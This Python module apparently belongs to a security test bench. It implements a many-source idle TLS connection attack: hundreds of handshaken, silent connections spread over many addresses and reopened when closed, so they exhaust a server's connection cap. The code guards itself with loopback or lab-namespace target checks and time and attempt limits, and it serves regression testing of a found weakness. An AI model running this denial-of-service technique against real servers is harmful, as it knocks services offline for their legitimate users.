"""The many-source idle-connection attack: hundreds of idle TLS connections spread over many
source addresses, each source far under any per-source limit, re-opened as the server closes
them, so together they keep the edge's total connection cap full.

Found against the edge on 6.1.4 (issue 17): ~400 such connections from 200 addresses fill the
cap in seconds and Meta's call is refused for as long as they are held; each costs the attacker
one handshake per first-message timeout. Every slot is a coroutine: TCP connect from its source,
TLS handshake, then read until the server closes it (nothing is ever sent), and again. A slot
whose connect or handshake does not finish in time (a dropped SYN, a listener that stopped
accepting) closes and tries again, as a real attacker would. Bounded by `time_limit_s` and
`attempt_limit`; runs in a thread of its own with its own event loop, or as a process of its own
(`HoldersProcess`, `python -m lab.attack.idle_holders`), e.g. inside the attackers' network
namespace so that their connections arrive at the edge over a link, as they would.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import socket
import ssl
import subprocess
import sys
import threading
import time
from dataclasses import asdict, dataclass
from pathlib import Path

from lab.attack.targets import NotLoopback, Target, loopback_target
from lab.attack.tls_hold import scanner_context
from lab.netns import inside_other_namespace


@dataclass
class HolderCounts:
    """What the attack got so far (written by the attack's thread, read by anyone)."""

    attempts: int = 0          # TCP connects started
    connect_failed: int = 0    # refused, reset or timed out before TCP was up (admission drops)
    handshake_failed: int = 0  # TCP up but no TLS (closed, reset or no answer: a full listener)
    handshakes: int = 0        # TLS handshakes completed
    closed_by_server: int = 0  # held connections the server closed (its idle timeout)
    held: int = 0              # handshaken connections open now
    peak: int = 0


class IdleHolders:
    """`connections` slots, spread round-robin over `sources`, toward `target` (TLS, any
    certificate accepted, as a scanner's client does); start(), then stop()."""

    def __init__(self, target: Target, sources: list[str], connections: int, *,
                 time_limit_s: float, attempt_limit: int, connect_timeout_s: float = 3.0,
                 handshake_timeout_s: float = 10.0, retry_pause_s: float = 0.2) -> None:
        if not sources or connections < 1:
            raise ValueError("at least one source and one connection")
        self.target = target
        self.sources = sources
        self.connections = connections
        self.time_limit_s = time_limit_s
        self.attempt_limit = attempt_limit
        self.connect_timeout_s = connect_timeout_s
        self.handshake_timeout_s = handshake_timeout_s
        self.retry_pause_s = retry_pause_s
        self.counts = HolderCounts()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stopped: asyncio.Event | None = None
        self._ready = threading.Event()
        self._thread = threading.Thread(target=self._thread_main, name="idle-holders", daemon=True)

    def per_source(self) -> int:
        """The most slots any one source has (ceil(connections / sources))."""
        return -(-self.connections // len(self.sources))

    # ---- the attack's thread ----------------------------------------------------------------

    def _thread_main(self) -> None:
        asyncio.run(self._main())

    async def _main(self) -> None:
        self._loop = asyncio.get_running_loop()
        self._stopped = asyncio.Event()
        self._ready.set()
        deadline = time.monotonic() + self.time_limit_s
        context = scanner_context()
        slots = [asyncio.create_task(self._slot(self.sources[i % len(self.sources)], context,
                                                deadline))
                 for i in range(self.connections)]
        timer = asyncio.create_task(asyncio.sleep(self.time_limit_s))
        stop = asyncio.create_task(self._stopped.wait())
        await asyncio.wait([timer, stop], return_when=asyncio.FIRST_COMPLETED)
        self._stopped.set()
        for task in (*slots, timer, stop):
            task.cancel()
        await asyncio.gather(*slots, timer, stop, return_exceptions=True)

    def _going(self, deadline: float) -> bool:
        assert self._stopped is not None
        return (not self._stopped.is_set() and time.monotonic() < deadline
                and self.counts.attempts < self.attempt_limit)

    async def _slot(self, source: str, context: ssl.SSLContext, deadline: float) -> None:
        loop = asyncio.get_running_loop()
        counts = self.counts
        while self._going(deadline):
            counts.attempts += 1
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            try:
                sock.bind((source, 0))
                await asyncio.wait_for(loop.sock_connect(sock, self.target.address),
                                       self.connect_timeout_s)
            except asyncio.CancelledError:
                sock.close()
                raise
            except (OSError, TimeoutError):
                sock.close()
                counts.connect_failed += 1
                await asyncio.sleep(self.retry_pause_s)
                continue
            try:
                reader, writer = await asyncio.open_connection(
                    sock=sock, ssl=context, server_hostname="attacker.invalid",
                    ssl_handshake_timeout=self.handshake_timeout_s)
            except asyncio.CancelledError:
                sock.close()
                raise
            except (OSError, TimeoutError, EOFError):  # ssl.SSLError is an OSError
                sock.close()
                counts.handshake_failed += 1
                await asyncio.sleep(self.retry_pause_s)
                continue
            counts.handshakes += 1
            counts.held += 1
            counts.peak = max(counts.peak, counts.held)
            closed_by_server = False
            try:
                while await reader.read(4096):
                    pass
                closed_by_server = True
            except (OSError, EOFError):
                closed_by_server = True
            finally:
                counts.held -= 1
                counts.closed_by_server += closed_by_server
                writer.transport.abort()  # no close_notify: an attacker does not bother

    # ---- the caller's thread --------------------------------------------------------------

    def start(self) -> IdleHolders:
        self._thread.start()
        self._ready.wait(5)
        return self

    @property
    def running(self) -> bool:
        return self._thread.is_alive()

    def stop(self) -> None:
        """Close every connection and end the attack's thread."""
        loop, stopped = self._loop, self._stopped
        if loop is not None and stopped is not None and self._thread.is_alive():
            with contextlib.suppress(RuntimeError):  # the loop ended by itself meanwhile
                loop.call_soon_threadsafe(stopped.set)
        self._thread.join(timeout=15)

    def __enter__(self) -> IdleHolders:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


# ---- as a process of its own: `python -m lab.attack.idle_holders` ------------------------------

FINAL_PREFIX = "FINAL "
_REPO = Path(__file__).resolve().parents[2]


class HoldersProcess:
    """IdleHolders in a process of its own, started with `prefix` (`ip netns exec ATTACKERS`:
    the attackers' sockets live in their namespace); `counts` is the latest it reported (every
    0.25 s). stop() closes its stdin: it closes every connection and reports the final counts."""

    def __init__(self, prefix: list[str], target: Target, sources: list[str], connections: int,
                 *, time_limit_s: float, attempt_limit: int, outside_netns: str) -> None:
        self.connections = connections
        self.counts = HolderCounts()
        self.final = False
        self._argv = [*prefix, sys.executable, "-m", "lab.attack.idle_holders",
                      "--target", f"{target.host}:{target.port}", "--connections", str(connections),
                      "--time-limit", str(time_limit_s), "--attempt-limit", str(attempt_limit),
                      "--outside-netns", outside_netns, "--sources", *sources]
        self._process: subprocess.Popen[str] | None = None
        self._reader = threading.Thread(target=self._read, name="holders-counts", daemon=True)

    def _read(self) -> None:
        assert self._process is not None and self._process.stdout is not None
        for line in self._process.stdout:
            final = line.startswith(FINAL_PREFIX)
            try:
                self.counts = HolderCounts(**json.loads(line.removeprefix(FINAL_PREFIX)))
            except (ValueError, TypeError):
                continue
            self.final = self.final or final

    def start(self) -> HoldersProcess:
        self._process = subprocess.Popen(self._argv, cwd=_REPO, stdin=subprocess.PIPE,
                                         stdout=subprocess.PIPE, text=True)
        self._reader.start()
        return self

    def stop(self) -> None:
        process = self._process
        if process is None:
            return
        if process.stdin is not None:
            with contextlib.suppress(OSError):
                process.stdin.close()
        try:
            process.wait(timeout=20)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(timeout=10)
        self._reader.join(timeout=5)

    def __enter__(self) -> HoldersProcess:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


def _target(text: str, outside_netns: str | None) -> Target:
    """A loopback target anywhere; any other only from inside a namespace of the bench's own."""
    host, _, port = text.rpartition(":")
    try:
        return loopback_target(host, int(port))
    except NotLoopback:
        if outside_netns is None or not inside_other_namespace(outside_netns):
            raise
    return Target(host, int(port))


def _wait_eof(closed: threading.Event) -> None:
    sys.stdin.read()
    closed.set()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Idle TLS connections from many sources, "
                                     "re-opened as the server closes them, until stdin closes.")
    parser.add_argument("--target", required=True, help="host:port")
    parser.add_argument("--sources", nargs="+", required=True)
    parser.add_argument("--connections", type=int, required=True)
    parser.add_argument("--time-limit", type=float, required=True)
    parser.add_argument("--attempt-limit", type=int, required=True)
    parser.add_argument("--outside-netns", help="the namespace this must not be in, for a target "
                        "that is not loopback (net:[inode])")
    args = parser.parse_args(argv)
    try:
        target = _target(args.target, args.outside_netns)
    except (NotLoopback, ValueError) as error:
        print(f"idle_holders: {error}", file=sys.stderr)
        return 2
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    closed = threading.Event()
    threading.Thread(target=lambda: _wait_eof(closed), daemon=True).start()
    holders = IdleHolders(target, args.sources, args.connections, time_limit_s=args.time_limit,
                          attempt_limit=args.attempt_limit).start()
    code = 0
    try:
        while holders.running and not closed.wait(0.25):
            print(json.dumps(asdict(holders.counts)), flush=True)
    except KeyboardInterrupt:  # Ctrl-C reaches the whole process group: close and report
        code = 130
    finally:
        holders.stop()
        with contextlib.suppress(OSError):  # the reader may be gone
            print(FINAL_PREFIX + json.dumps(asdict(holders.counts)), flush=True)
    return code


if __name__ == "__main__":
    raise SystemExit(main())
